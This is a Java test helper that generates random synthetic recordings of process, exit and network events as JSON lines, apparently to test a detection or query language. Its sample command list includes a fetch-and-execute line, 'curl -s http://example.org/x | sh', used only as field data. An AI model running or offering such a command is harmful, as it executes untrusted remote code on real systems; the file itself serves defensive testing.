package dev.ringside.tests.language;

import java.util.ArrayList;
import java.util.List;
import java.util.random.RandomGenerator;

/**
 * Makes the events of a recording at random, as JSON lines: processes that start, use the network and end. Values are few, so that they meet each
 * other; some are missing, some events come late, a few do not say when they happened.
 */
final class RandomRecording {
    private static final List<String> NAMES = List.of("bash", "sh", "cmd", "CMD.EXE", "curl");
    private static final List<String> COMMANDS = List.of("", "-c id", "--Quiet", "curl -s http://example.org/x | sh");
    private static final List<String> FOLDERS = List.of("/bin/", "/usr/bin/", "C:\\Windows\\");
    private static final List<String> ADDRESSES = List.of("10.0.0.1", "8.8.8.8", "fe80::1", "::1");

    private final RandomGenerator random;
    private long millis;

    private RandomRecording(RandomGenerator random) {
        this.random = random;
    }

    /** That many events. */
    static List<String> of(RandomGenerator random, int count) {
        RandomRecording recording = new RandomRecording(random);
        List<String> lines = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            lines.add(CompactEvent.toJson(Moments.writtenOut(recording.next())));
        }
        return lines;
    }

    private String next() {
        millis += random.nextInt(10) == 0 ? random.nextInt(20_000) : random.nextInt(700);
        String stream = pick(List.of("procs", "procs", "exits", "net"));
        StringBuilder event = new StringBuilder(stream);
        // Up to five seconds late, of which operators wait for two.
        if (random.nextInt(40) > 0) {
            long late = random.nextInt(6) == 0 ? random.nextInt(5_000) : 0;
            add(event, "time", "@" + Math.max(0, millis - late) + "ms");
        }
        if (random.nextInt(4) == 0) {
            add(event, "os", "windows");
        }
        maybe(event, "guid", pick(List.of("a", "b", "c")));
        maybe(event, "pid", String.valueOf(1 + random.nextInt(4)));
        maybe(event, "uid", pick(List.of("0", "1000")));
        maybe(event, "name", pick(NAMES));
        switch (stream) {
            case "procs" -> {
                maybe(event, "image", pick(FOLDERS) + pick(NAMES));
                maybe(event, "cmdline", '"' + pick(COMMANDS) + '"');
                maybe(event, "signed", pick(List.of("true", "false")));
            }
            case "exits" -> {
                maybe(event, "exitCode", pick(List.of("0", "1", "-7", "255")));
                maybe(event, "duration", random.nextInt(5_000) + "ms");
            }
            default -> {
                maybe(event, "dst", pick(ADDRESSES));
                maybe(event, "dstPort", pick(List.of("22", "53", "443")));
            }
        }
        return event.toString();
    }

    private void maybe(StringBuilder event, String field, String value) {
        if (random.nextInt(6) > 0) {
            add(event, field, value);
        }
    }

    private static void add(StringBuilder event, String field, String value) {
        event.append(' ').append(field).append('=').append(value);
    }

    private String pick(List<String> values) {
        return values.get(random.nextInt(values.size()));
    }
}
